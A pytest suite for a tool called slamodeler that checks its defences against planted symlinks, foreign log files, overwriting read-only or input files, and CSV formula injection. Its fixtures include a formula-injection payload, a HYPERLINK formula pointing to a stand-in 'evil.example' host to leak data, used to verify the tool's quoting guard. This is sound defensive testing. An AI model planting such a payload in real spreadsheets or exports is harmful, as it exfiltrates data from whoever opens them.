"""Hostile conditions around what the tool writes: the internal-error log (planted symlinks,
foreign files, concurrent failures), CSV text that a spreadsheet would run as a formula, and
outputs that would replace a read-only file or the command's own input."""

from __future__ import annotations

import csv
import json
import os
import tempfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import slamodeler.cli.main as cli
from slamodeler.io.formula_text import FORMULA_START, csv_text, from_csv_text
from slamodeler.services import error_log
from tests.helpers.hostile_inputs import hostile
from tests.helpers.office import convert, needs_office, office_profile
from tests.helpers.paths import SAMPLES

FROZEN = "20240102-030405"


@pytest.fixture
def failing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> SimpleNamespace:
    """``validate`` fails with an internal error; the user's log folder and the system's
    temporary folder are inside the test's folder, and the clock is frozen so that the log's
    name is known in advance."""

    def boom(args: object) -> int:
        raise RuntimeError("boom")

    monkeypatch.setattr(cli, "_validate", boom)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    shared_tmp = tmp_path / "tmp"
    shared_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(shared_tmp))
    monkeypatch.setattr(error_log, "time", SimpleNamespace(strftime=lambda _: FROZEN))
    folder = error_log.log_folder()
    assert str(folder).startswith(str(tmp_path / "state"))
    first = folder / f"slamodeler-error-{FROZEN}-{os.getpid()}.log"
    return SimpleNamespace(folder=folder, first=first, tmp=shared_tmp)


def fail(capsys) -> str:
    code = cli.main(["validate", "any.yaml"])
    err = capsys.readouterr().err
    assert code == 1, err
    assert "Traceback" not in err and err.count("\n") == 1, err
    assert err.startswith("slamodeler: internal error; "), err
    return err


def test_a_planted_symlink_is_not_followed(failing, capsys, tmp_path):
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me", encoding="utf-8")
    (failing.tmp / "slamodeler-error.log").symlink_to(precious)  # the old fixed name
    failing.folder.mkdir(parents=True)
    failing.first.symlink_to(precious)  # and the name this failure's log would take
    err = fail(capsys)
    assert precious.read_text(encoding="utf-8") == "keep me"
    written = failing.first.with_name(failing.first.stem + "-1.log")
    assert f"details were written to {written}." in err
    assert "RuntimeError: boom" in written.read_text(encoding="utf-8")
    assert written.stat().st_mode & 0o777 == 0o600


def test_a_foreign_unwritable_file_where_the_log_goes_is_no_crash(failing, capsys):
    (failing.tmp / "slamodeler-error.log").mkdir()  # the old fixed name, taken by something else
    failing.folder.mkdir(parents=True)
    failing.first.write_text("another user's", encoding="utf-8")
    os.chown(failing.first, 65534, 65534)
    failing.first.chmod(0o400)
    err = fail(capsys)
    assert failing.first.read_text(encoding="utf-8") == "another user's"
    assert "details were written to " in err and str(failing.folder) in err


def test_two_failures_give_two_logs(failing, capsys):
    first, second = fail(capsys), fail(capsys)
    logs = sorted(failing.folder.glob("slamodeler-error-*.log"))
    assert len(logs) == 2 and first != second
    assert all("RuntimeError: boom" in p.read_text(encoding="utf-8") for p in logs)


def test_old_logs_are_pruned_to_the_last_twenty(failing, capsys):
    failing.folder.mkdir(parents=True)
    for i in range(25):
        old = failing.folder / f"slamodeler-error-20000101-0000{i:02d}-1.log"
        old.write_text("old", encoding="utf-8")
        os.utime(old, (1_000_000 + i, 1_000_000 + i))
    fail(capsys)
    logs = sorted(failing.folder.glob("slamodeler-error-*.log"))
    assert len(logs) == error_log.KEEP == 20
    assert failing.first in logs
    assert logs[0].name == "slamodeler-error-20000101-000006-1.log"  # the 6 oldest went


def test_when_no_log_can_be_written_the_message_says_so(failing, capsys, tmp_path, monkeypatch):
    (tmp_path / "state").write_text("a file where the folder should be", encoding="utf-8")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no such folder"))
    err = fail(capsys)
    assert f"the details could not be written to {failing.folder}" in err
    assert "Please report it" in err


def test_the_gui_log_does_not_follow_a_symlink(tmp_path):
    from slamodeler.gui.widgets.errors import log, setup_logging

    precious = tmp_path / "precious.txt"
    precious.write_text("keep me", encoding="utf-8")
    path = tmp_path / "log" / "slamodeler-gui.log"
    path.parent.mkdir()
    path.symlink_to(precious)
    setup_logging(path)
    log.error("planted")
    assert precious.read_text(encoding="utf-8") == "keep me"
    real = tmp_path / "log" / "real.log"
    setup_logging(real)
    log.error("logged")
    assert "logged" in real.read_text(encoding="utf-8")
    assert real.stat().st_mode & 0o777 == 0o600


# ---------------------------------------------------------------------------------------------
# CSV text that a spreadsheet would run as a formula
# ---------------------------------------------------------------------------------------------

SAMPLES = SAMPLES
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    return office_profile(tmp_path_factory)


def formula_terms(folder: Path) -> tuple[Path, Path]:
    """The sample contract and scenario with a tier, an escalation, an impact label, an
    excluded cause and a process (the dumped incidents' title) that look like formulas."""
    contract = (SAMPLES / "three_tier_cloud.yaml").read_text(encoding="utf-8")
    for old, new in (
        ("name: Bronze", "name: '=1+1'"),
        ("escalation: notify the account executive}", f"escalation: '{HYPERLINK}'}}"),
        ("impact_weights: {full: 1.0,", "impact_weights: {'=full': 1.0, full: 1.0,"),
        ("causes: [maintenance,", "causes: ['=maint', maintenance,"),
    ):
        assert old in contract, old
        contract = contract.replace(old, new)
    scenario = (SAMPLES / "scenarios" / "baseline.yaml").read_text(encoding="utf-8")
    for old, new in (
        ("impact: {full: 0.4, partial: 0.6}", "impact: {'=full': 0.5, full: 0.2, partial: 0.3}"),
        ("cause: {internal: 0.9, third_party: 0.1}", "cause: {internal: 0.5, '=maint': 0.5}"),
        ("name: platform incidents", f"name: '{HYPERLINK}'"),
        ("rate_per_month: 1.8", "rate_per_month: 12"),
    ):
        assert old in scenario, old
        scenario = scenario.replace(old, new)
    (folder / "terms.yaml").write_text(contract, encoding="utf-8")
    (folder / "scenario.yaml").write_text(scenario, encoding="utf-8")
    return folder / "terms.yaml", folder / "scenario.yaml"


@pytest.fixture
def dumped(tmp_path: Path, capsys) -> SimpleNamespace:
    """One dumped trial of the formula-looking terms, and its replay as CSV and JSON."""
    contract, scenario = formula_terms(tmp_path)
    trials = tmp_path / "trials"
    hostile(
        capsys,
        "simulate",
        contract,
        "--scenario",
        scenario,
        "--trials",
        30,
        "--seed",
        4,
        "--dump-trials",
        1,
        "--dump-dir",
        trials,
        "--format",
        "json",
    )
    trial = trials / "trial-000000.csv"
    period = ("--from", "2027-01", "--to", "2027-12")
    _, as_csv, _ = hostile(capsys, "replay", contract, trial, *period, "--format", "csv")
    _, as_json, _ = hostile(capsys, "replay", contract, trial, *period, "--format", "json")
    (tmp_path / "replay.csv").write_text(as_csv, encoding="utf-8")
    return SimpleNamespace(
        contract=contract,
        scenario=scenario,
        trial=trial,
        replay_csv=tmp_path / "replay.csv",
        replay=json.loads(as_json),
    )


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_a_dumped_trial_with_formula_looking_text_replays_to_the_same_credits(dumped):
    from slamodeler.engine.simulation import period_credits, simulate
    from slamodeler.io.contract_file import load_contract
    from slamodeler.io.scenario_file import load_scenario

    header, *rows = csv_rows(dumped.trial)
    column = {name: header.index(name) for name in header}
    assert {r[column["impact"]] for r in rows} >= {"'=full", "full"}
    assert {r[column["cause"]] for r in rows} >= {"'=maint", "internal"}
    assert {r[column["title"]] for r in rows} >= {"'" + HYPERLINK}
    sim = simulate(load_contract(dumped.contract), load_scenario(dumped.scenario), 30, 4)
    for tier in dumped.replay["tiers"]:
        expected = period_credits(sim, tier["tier"], [0])[0].tolist()
        assert [int(Decimal(p["credit_after_caps"]) * 100) for p in tier["periods"]] == expected
    excluded = [p["excluded_by_reason"] for t in dumped.replay["tiers"] for p in t["periods"]]
    assert any("cause: =maint" in reasons for reasons in excluded)  # read back without the '
    titles = {
        i["title"] for t in dumped.replay["tiers"] for p in t["periods"] for i in p["incidents"]
    }
    assert HYPERLINK in titles


def test_replay_csv_guards_text_and_leaves_numbers(dumped):
    header, *rows = csv_rows(dumped.replay_csv)
    tiers = {r[0] for r in rows}
    assert tiers == {"'=1+1", "Silver", "Gold"}
    assert {r[header.index("escalation")] for r in rows} == {"", "'" + HYPERLINK}
    for name in ("period_minutes", "credit_owed", "credit_after_caps"):
        assert all(not r[header.index(name)].startswith("'") for r in rows)


@needs_office
def test_libreoffice_opens_every_csv_the_tool_writes_as_text(dumped, office, tmp_path):
    expected = {
        dumped.trial: {"'=full", "'=maint", "'" + HYPERLINK},
        dumped.replay_csv: {"'=1+1", "'" + HYPERLINK},
    }
    for source, guarded in expected.items():
        sheet = openpyxl.load_workbook(convert(office, source, "xlsx", tmp_path / "out")).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], source
        assert guarded <= {c.value for c in cells if c.data_type == "s"}, source


@given(st.text())
def test_the_csv_guard_reads_back_exactly(text):
    guarded = csv_text(text)
    assert from_csv_text(guarded) == text
    assert guarded[:1] not in FORMULA_START
    assert guarded == text or guarded == "'" + text


# ---------------------------------------------------------------------------------------------
# Outputs that would replace a read-only file or the command's own input
# ---------------------------------------------------------------------------------------------

CONTRACT = SAMPLES / "three_tier_cloud.yaml"
INCIDENTS = SAMPLES / "incidents_sample.csv"
BASELINE = SAMPLES / "scenarios" / "baseline.yaml"


def incident_workbook(folder: Path) -> Path:
    """The sample incidents as an XLSX export."""
    book = openpyxl.Workbook()
    for row in csv_rows(INCIDENTS):
        book.active.append(row)
    path = folder / "incidents.xlsx"
    book.save(path)
    return path


def read_only(path: Path, text: str = "keep me") -> Path:
    path.write_text(text, encoding="utf-8")
    path.chmod(0o444)
    return path


def refused(capsys, path: Path, *argv: object) -> str:
    """Run, expect exit 2 naming ``path``, and check that ``path`` is as it was."""
    before = path.read_bytes()
    code, _, err = hostile(capsys, *argv, names=str(path))
    assert code == 2, err
    assert path.read_bytes() == before
    return err


def test_export_does_not_overwrite_its_own_incident_workbook(capsys, tmp_path):
    book = incident_workbook(tmp_path)
    err = refused(capsys, book, "export", CONTRACT, book, "--out", book)
    assert "is the incident file this command reads" in err and "another name" in err


def test_export_through_a_link_to_its_input_is_refused_too(capsys, tmp_path):
    book = incident_workbook(tmp_path)
    link = tmp_path / "out.xlsx"
    link.symlink_to(book)
    refused(capsys, book, "export", CONTRACT, book, "--out", link)


def test_export_does_not_replace_a_read_only_workbook(capsys, tmp_path):
    out = read_only(tmp_path / "exposure.xlsx")
    err = refused(capsys, out, "export", CONTRACT, INCIDENTS, "--out", out)
    assert "is read-only" in err and "make the file writable" in err


def test_replay_xlsx_does_not_overwrite_the_incidents(capsys, tmp_path):
    book = incident_workbook(tmp_path)
    refused(capsys, book, "replay", CONTRACT, book, "--xlsx", book)


def test_simulate_xlsx_does_not_replace_a_read_only_file(capsys, tmp_path):
    out = read_only(tmp_path / "sim.xlsx")
    refused(
        capsys, out, "simulate", CONTRACT, "--scenario", BASELINE, "--trials", 10, "--xlsx", out
    )


def test_dumped_trials_do_not_overwrite_the_fitted_history(capsys, tmp_path):
    history = tmp_path / "trial-000000.csv"
    history.write_bytes(INCIDENTS.read_bytes())
    err = refused(
        capsys,
        history,
        "simulate",
        CONTRACT,
        "--incidents",
        history,
        "--trials",
        10,
        "--dump-trials",
        1,
        "--dump-dir",
        tmp_path,
    )
    assert err.startswith(f"slamodeler: --dump-dir {history}: is the incident file")


def test_dumped_trials_do_not_replace_a_read_only_file(capsys, tmp_path):
    kept = read_only(tmp_path / "trial-000001.csv")
    refused(
        capsys,
        kept,
        "simulate",
        CONTRACT,
        "--scenario",
        BASELINE,
        "--trials",
        10,
        "--dump-trials",
        2,
        "--dump-dir",
        tmp_path,
    )
    assert not (tmp_path / "trial-000000.csv").exists()  # refused before any work


def test_fit_does_not_overwrite_the_history_it_fits(capsys, tmp_path):
    history = tmp_path / "history.csv"
    history.write_bytes(INCIDENTS.read_bytes())
    refused(capsys, history, "fit", history, "--out", history)


@pytest.fixture
def workspace(tmp_path, seeded_workspace, monkeypatch) -> Path:
    monkeypatch.setenv("SLAMODELER_AUTHOR", "tester")
    path = tmp_path / "work.slamws"
    path.write_bytes(seeded_workspace.read_bytes())
    return path


def test_ws_export_contract_does_not_overwrite_the_workspace(capsys, workspace):
    refused(
        capsys,
        workspace,
        "ws",
        "export-contract",
        "three_tier_cloud@1",
        "--ws",
        workspace,
        "--out",
        workspace,
    )


def test_ws_export_contract_does_not_replace_a_read_only_file(capsys, workspace, tmp_path):
    out = read_only(tmp_path / "terms.yaml")
    refused(
        capsys, out, "ws", "export-contract", "three_tier_cloud@1", "--ws", workspace, "--out", out
    )


def test_ws_export_does_not_replace_a_read_only_workbook(capsys, workspace, tmp_path):
    code, _, err = hostile(
        capsys, "ws", "replay", "three_tier_cloud@1", "incidents_sample", "--ws", workspace
    )
    assert code == 0 and "stored as run 1" in err
    out = read_only(tmp_path / "run.xlsx")
    refused(capsys, out, "ws", "export", 1, "--ws", workspace, "--out", out)


def test_a_read_only_workbook_is_not_replaced_by_any_writer(tmp_path):
    """The GUI's exports go through the same writer: refused there too."""
    from slamodeler.domain.errors import InputError
    from slamodeler.services.export import save_workbook
    from slamodeler.services.replay import replay_files

    out = read_only(tmp_path / "gui.xlsx")
    with pytest.raises(InputError, match=r"gui\.xlsx: is read-only"):
        save_workbook(out, replay=replay_files(CONTRACT, INCIDENTS))
    assert out.read_text(encoding="utf-8") == "keep me"
